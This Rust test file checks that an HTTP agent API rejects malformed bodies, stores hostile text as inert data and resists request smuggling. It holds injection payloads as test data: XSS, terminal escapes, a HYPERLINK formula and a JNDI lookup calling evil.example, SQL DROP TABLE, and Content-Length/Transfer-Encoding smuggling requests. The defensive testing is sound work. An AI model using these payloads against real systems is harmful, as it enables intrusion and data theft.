//! Bodies that mean harm: broken ones (A05), hostile text in good ones (A08), and requests in requests (R12).

use std::io::{BufReader, Read as _, Write as _};
use std::process::Command;

use airlock::http::Settings;
use serde_json::Value;

use super::snapshot::{Snapshot, own_line, records, records_of, status};
use crate::support::agents::{Serving, request};
use crate::support::appliance::AIRLOCK;
use crate::support::client::{connect, raw, read_reply};
use crate::support::desired::revision_id;
use crate::support::in_process::InProcessAppliance;

/// A05: none of these is stored, in part or whole, and none of them is more than a 400.
#[test]
fn a05_broken_bodies_leave_no_trace() {
    let serving = Serving::two_targets();
    let token = serving.token("edge-0");
    let good = status("edge-0", "running", "x");
    assert_eq!(serving.agent(&token, "POST", "status", &good).status, 200);
    let before = Snapshot::of(&serving);
    let revision = revision_id("edge-0", "a");
    let bodies = [
        String::new(),
        good[..good.len() - 1].to_owned(),
        format!("{good}{good}"),
        format!("{good}x"),
        good.replace("\"x\"", "NaN"),
        good.replace("\"x\"", "\"a\0b\""),
        good.replace("\"x\"", "\"\\x41\""),
        good.replace("\"x\"", &format!("{}{}", "[".repeat(10_000), "]".repeat(10_000))),
        format!("'{good}'"),
        "\u{feff}{}".to_owned(),
        "null x".to_owned(),
    ];
    for body in &bodies {
        for (method, path) in [
            ("POST", "status"),
            ("POST", "metrics"),
            ("PUT", "logs"),
            ("PUT", "deployment-target-logs"),
        ] {
            let reply = serving.agent(&token, method, path, body);
            assert_eq!(reply.status, 400, "{path}: {}", &body[..body.len().min(90)]);
        }
    }
    // What a status may not say; measurements have other members, and strange ones are none of theirs.
    for body in [
        format!("[{good}]"),
        good.replace("\"type\"", "\"type\":\"ok\",\"type\""),
        format!(r#"{{"revisionId":["{revision}"],"type":"running","message":"x"}}"#),
    ] {
        assert_eq!(serving.agent(&token, "POST", "status", &body).status, 400, "{body}");
    }
    before.assert_same(&serving);
    assert_eq!(
        serving
            .agent(&token, "POST", "status", &status("edge-0", "ok", "y"))
            .status,
        200
    );
    assert_eq!(records(&serving).len(), 2);
}

/// A05: thousands of bodies that are nearly good: always 200, 204 or 400, one answer each, and the connection stays usable.
#[test]
fn a05_thousands_of_nearly_good_bodies() {
    let targets = if std::env::var_os("AIRLOCK_SLOW").is_some() {
        8
    } else {
        4
    };
    let instance = InProcessAppliance::new();
    instance.release(1, targets, "a");
    let serving = Serving::start(instance, Settings::default());
    let mut random: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move |below: usize| {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        usize::try_from(random >> 20).unwrap() % below
    };
    let bits: [&[u8]; 14] = [
        b"{", b"}", b"[", b"]", b"\"", b",", b":", b"\\", b"\\u0000", b"null", b"1e99", b"\xff", b"\0", b"\r\n",
    ];
    let mut counts = std::collections::BTreeMap::new();
    for target in 0..targets {
        let name = format!("edge-{target}");
        let bearer = format!("Bearer {}", serving.token(&name));
        let metrics = r#"{"cpuCoresMillis":4000,"cpuUsage":0.5,"diskMetrics":[{"device":"/dev/sda","path":"/"}]}"#;
        let seeds = [
            ("POST", "status", status(&name, "progressing", "pulling")),
            ("POST", "metrics", metrics.to_owned()),
            (
                "PUT",
                "logs",
                format!("[{},{}]", own_line(&name, "one"), own_line(&name, "two")),
            ),
            (
                "PUT",
                "deployment-target-logs",
                r#"[{"timestamp":"2026-11-21T10:00:00Z","severity":"info","body":"x"}]"#.into(),
            ),
        ];
        let mut stream = BufReader::new(connect(serving.address));
        for number in 0..480 {
            let (method, path, seed) = &seeds[number % seeds.len()];
            let mut body = seed.clone().into_bytes();
            for _ in 0..=next(3) {
                let at = next(body.len() + 1);
                match next(4) {
                    0 => drop(body.splice(at..at, bits[next(bits.len())].iter().copied())),
                    1 if at < body.len() => drop(body.remove(at)),
                    2 if at < body.len() => body[at] ^= 1 << next(8),
                    _ => body.truncate(at),
                }
            }
            let headers = [("Authorization", bearer.as_str()), ("Connection", "keep-alive")];
            let bytes = request(method, &format!("/api/v1/agent/{path}"), &headers, &body);
            let at = bytes
                .windows(20)
                .position(|window| window == b"Connection: close\r\n\x48")
                .unwrap();
            let bytes = [&bytes[..at], &bytes[at + 19..]].concat();
            if stream.get_mut().write_all(&bytes).is_err() {
                stream = BufReader::new(connect(serving.address));
                stream.get_mut().write_all(&bytes).unwrap();
            }
            let reply = read_reply(&mut stream, false).unwrap();
            assert!(
                matches!(reply.status, 200 | 204 | 400),
                "{path} {:?} {reply:?}",
                String::from_utf8_lossy(&body)
            );
            *counts.entry(reply.status).or_insert(0_usize) += 1;
            if reply.header("connection") == Some("close") {
                stream = BufReader::new(connect(serving.address));
            }
        }
    }
    println!("{counts:?}");
    assert!(counts[&400] > targets * 125, "{counts:?}");
    // What a broken body says never ends up at another target.
    for listed in records(&serving) {
        assert!(listed.source.unwrap().name.starts_with("edge-"));
    }
}

/// Text that means something to a terminal, a browser, a spreadsheet, a database or a log.
fn hostile() -> Vec<String> {
    vec![
        "<script>alert(1)</script>".into(),
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred".into(),
        "one\r\ntwo\r\nHTTP/1.1 200 OK".into(),
        "=HYPERLINK(\"http://evil.example\",\"x\")".into(),
        "'; DROP TABLE record; --".into(),
        "2026-11-21T10:00:00Z WARN audit row 7 import by nobody".into(),
        "\u{202e}txt.exe\u{2066}\u{200b}\u{feff}".into(),
        "%s%n%x {} {0} ${jndi:ldap://evil.example}".into(),
        "\u{85}\u{2028}\u{9b}31m".into(),
        "y".repeat(1 << 20),
    ]
}

/// A08: stored as data, to the character, but for what is cut and marked as cut.
#[test]
fn a08_hostile_text_is_data() {
    let serving = Serving::two_targets();
    let token = serving.token("edge-0");
    let before = crate::support::state_fingerprint::StateFingerprint::of(&serving.instance.state());
    for text in hostile() {
        let kinds = ["error", "running"];
        for kind in kinds {
            assert_eq!(
                serving
                    .agent(&token, "POST", "status", &status("edge-0", kind, &text))
                    .status,
                200
            );
        }
        let lines = format!("[{}]", own_line("edge-0", &text));
        assert_eq!(serving.agent(&token, "PUT", "logs", &lines).status, 204);
        let own = format!(
            r#"[{{"timestamp":"2026-11-21T10:00:00Z","severity":{0},"body":{0}}}]"#,
            Value::from(text)
        );
        assert_eq!(serving.agent(&token, "PUT", "deployment-target-logs", &own).status, 204);
    }
    assert_eq!(
        crate::support::state_fingerprint::StateFingerprint::of(&serving.instance.state()),
        before
    );
    let stored = records_of(&serving, "edge-0");
    for text in hostile() {
        let (whole, cut): (Vec<_>, Vec<_>) = stored.iter().partition(|listed| listed.record.text == text);
        if text.len() <= 256 << 10 {
            assert_eq!(whole.len(), 4, "{text:?}");
        } else {
            let begun = cut
                .iter()
                .filter(|listed| listed.record.text.starts_with(&text[..1000]))
                .count();
            assert!(whole.is_empty() && begun == 4, "{begun}");
            assert!(cut.iter().all(|listed| listed.record.text.len() <= 256 << 10));
        }
    }
}

/// A08: what agents say comes to a terminal as text, in one line, and to a program as JSON.
#[test]
fn a08_hostile_text_moves_no_cursor() {
    let serving = Serving::two_targets();
    let token = serving.token("edge-0");
    for text in hostile() {
        let report = serving.agent(&token, "POST", "status", &status("edge-0", "error", &text));
        assert_eq!(report.status, 200);
        let state = serving.instance.state();
        for arguments in [&["watch", "--once"][..], &["list"]] {
            for format in ["human", "json"] {
                let output = Command::new(AIRLOCK)
                    .arg("target")
                    .args(arguments)
                    .args(["--format", format, "--state"])
                    .arg(&state)
                    .output()
                    .unwrap();
                assert!(output.status.success(), "{arguments:?} {output:?}");
                let said = String::from_utf8(output.stdout).unwrap();
                assert!(said.contains("edge-0"), "{said}");
                let moves = |c: char| {
                    c.is_control() && c != '\n'
                        || ('\u{202a}'..='\u{202e}').contains(&c)
                        || ('\u{2066}'..='\u{2069}').contains(&c)
                };
                let strange: Vec<char> = said.chars().filter(|c| moves(*c)).collect();
                let strange = if format == "json" { Vec::new() } else { strange };
                assert!(strange.is_empty(), "{arguments:?} {text:?}: {strange:?}");
                if format == "json" {
                    for line in said.lines() {
                        assert!(!line.contains('\u{1b}'), "{line}");
                    }
                    serde_json::from_str::<Value>(&said).unwrap();
                } else {
                    assert!(said.lines().count() < 30 && said.len() < 20_000, "{} bytes", said.len());
                    assert!(
                        !said
                            .lines()
                            .any(|line| line.starts_with("two") || line.starts_with("HTTP/1.1 200")),
                        "{said}"
                    );
                }
            }
        }
    }
}

/// R12: one request is one request. What hides behind another one is never heard.
#[test]
fn r12_no_request_in_a_request() {
    let serving = Serving::two_targets();
    let token = serving.token("edge-0");
    let before = Snapshot::of(&serving);
    let hidden = request(
        "POST",
        "/api/v1/agent/status",
        &[("Authorization", &format!("Bearer {token}"))],
        status("edge-0", "error", "hidden").as_bytes(),
    );
    let hidden = String::from_utf8(hidden).unwrap();
    let head = format!("POST /api/v1/agent/status HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n");
    for text in [
        format!("{head}Content-Length: 4\r\nContent-Length: 0\r\n\r\n{hidden}"),
        format!("{head}Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"),
        format!("{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{hidden}"),
        format!("{head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}"),
        format!("{head}Content-Length: +0\r\n\r\n{hidden}"),
        format!("{head}Content-Length: 0x0\r\n\r\n{hidden}"),
        format!("{head}Content-Length : 0\r\n\r\n{hidden}"),
        format!("{head} Content-Length: 0\r\n\r\n{hidden}"),
        format!("{head}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff0\r\n\r\n{hidden}"),
        format!("{head}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n{hidden}"),
        format!("{head}X: a\u{0}b\r\nContent-Length: 0\r\n\r\n{hidden}"),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
    ] {
        let mut stream = connect(serving.address);
        stream.write_all(text.as_bytes()).ok();
        stream.shutdown(std::net::Shutdown::Write).ok();
        let mut answer = Vec::new();
        // However the connection ended: what came before counts.
        std::io::copy(&mut stream.take(1 << 20), &mut answer).ok();
        let answer = String::from_utf8_lossy(&answer);
        assert!(!answer.contains("HTTP/1.1 200"), "{text:?}\n{answer}");
    }
    before.assert_same(&serving);
    // The same request by itself is heard.
    assert_eq!(raw(serving.address, hidden.as_bytes(), false).unwrap().status, 200);
    assert_eq!(records_of(&serving, "edge-0").len(), 1);
}
